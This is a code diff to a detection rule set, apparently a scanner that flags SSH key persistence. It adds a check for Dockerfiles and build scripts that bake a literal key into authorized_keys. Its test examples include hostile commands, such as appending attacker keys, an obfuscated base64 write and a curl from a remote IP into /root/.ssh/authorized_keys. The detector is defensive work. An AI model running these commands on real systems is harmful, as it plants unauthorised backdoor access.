@@ -813,13 +813,18 @@ export const RULES: readonly Rule[] = [
     alternative: 'Use ssh-copy-id with your own key, and review authorized_keys by hand.',
     check: (i) => {
       const out = writesKind(i, ['authorized-keys']).filter((w) => foreignKey(w)).map((w) => `${w.cmd ? w.cmd.name + ' → ' : ''}${w.path}`);
+      // a Dockerfile, pipeline or build script that appends a literal key bakes it into every image or host it builds
+      for (const w of writes(i)) {
+        const line = automationFile(w.canonical) ? w.text.slice(0, 65536).split('\n', 4000).find((l) => l.includes('authorized_keys') && KEY_LITERAL.test(l)) : undefined;
+        if (line !== undefined) out.push(`${w.path}: ${line.trim().slice(0, 160)}`);
+      }
       // `find / -name authorized_keys -exec sh -c 'echo KEY >> "$0"' {} \;` appends to every file found
       const cmds = i.view?.commands ?? [];
       const sweep = cmds.find((c) => c.name === 'find' && c.argv.some((w, k) => /^-i?name$/.test(c.argv[k - 1] ?? '') && w.startsWith('authorized_keys')) && hasArg(c, '-exec', '-execdir'));
       if (sweep && cmds.some((c) => c.depth > sweep.depth && c.redirects.some((r) => r.op === '>>') && /^(ssh-|ecdsa-)/.test(writtenText(c)))) out.push(sweep.argv.join(' ').slice(0, 160));
       return out;
     },
-    examples: { fire: [`python3 -c "import os,base64;open(os.path.expanduser('~/.ssh/authorized_keys'),'a').write(base64.b64decode('c3NoLWVkMjU1MTkgQUFBQQ=='))"`, "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFake attacker@kali' >> ~/.ssh/authorized_keys", "printf '\\x73\\x73\\x68-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFake x\\n' >> ~/.ssh/authorized_keys", 'curl -s http://45.33.12.7/k.pub >> /root/.ssh/authorized_keys', 'for d in /home/*; do cat /tmp/.k.pub >> $d/.ssh/authorized_keys; done', "sudo bash -c 'cat /tmp/id.pub >> /root/.ssh/authorized_keys'"], quiet: ['sudo sed -i.bak "/dmitri@contractor-mbp/d" /home/deploy/.ssh/authorized_keys', 'cat ~/.ssh/authorized_keys', 'ssh-copy-id deploy@staging', 'chmod 600 ~/.ssh/authorized_keys'] },
+    examples: { fire: [{ Filesystem: { operation: 'Write', path: '/home/o/api/Dockerfile', content: "FROM node:20-alpine\nRUN apk add --no-cache openssh-server \\\n && mkdir -p /root/.ssh \\\n && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHc0n7q9pL2xVb8mK4sT1wR6yE3uJ5fG0aZ9dQ2hN7kP ops@patterns' >> /root/.ssh/authorized_keys\n" } }, `python3 -c "import os,base64;open(os.path.expanduser('~/.ssh/authorized_keys'),'a').write(base64.b64decode('c3NoLWVkMjU1MTkgQUFBQQ=='))"`, "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFake attacker@kali' >> ~/.ssh/authorized_keys", "printf '\\x73\\x73\\x68-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFake x\\n' >> ~/.ssh/authorized_keys", 'curl -s http://45.33.12.7/k.pub >> /root/.ssh/authorized_keys', 'for d in /home/*; do cat /tmp/.k.pub >> $d/.ssh/authorized_keys; done', "sudo bash -c 'cat /tmp/id.pub >> /root/.ssh/authorized_keys'"], quiet: [{ Filesystem: { operation: 'Write', path: '/home/o/api/Dockerfile', content: 'FROM node:20-alpine\nRUN apk add --no-cache openssh-client\nCOPY known_hosts /root/.ssh/known_hosts\n' } }, { Filesystem: { operation: 'Write', path: 'docs/ssh.md', content: "echo 'ssh-ed25519 AAAAC3Nz… you@laptop' >> ~/.ssh/authorized_keys" } }, 'sudo sed -i.bak "/dmitri@contractor-mbp/d" /home/deploy/.ssh/authorized_keys', 'cat ~/.ssh/authorized_keys', 'ssh-copy-id deploy@staging', 'chmod 600 ~/.ssh/authorized_keys'] },
   },
   {
     id: 'PX-PERSIST-013', name: 'modifies-authorized-keys', score: 50, tactic: 'persistence', technique: 'T1098.004',
@@ -1199,6 +1204,9 @@ function foreignKey(w: Written): boolean {
   const sources = src.name === 'cat' || COPIERS.has(src.name) ? operands(src).slice(0, COPIERS.has(src.name) ? -1 : undefined) : [];
   return sources.some((s) => isStagingPath(s));
 }
+
+/** An SSH public key written out in full: its type and the start of its base64 body. */
+const KEY_LITERAL = /(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-nistp\d{3}|sk-ssh-ed25519@openssh\.com) AAAA/;
 
 /** A `sed -i` whose every script deletes lines (`/dmitri@laptop/d`, `12d`, `$d`): it takes keys out, it adds none. */
 function deletesLinesOnly(c: SimpleCommand): boolean {
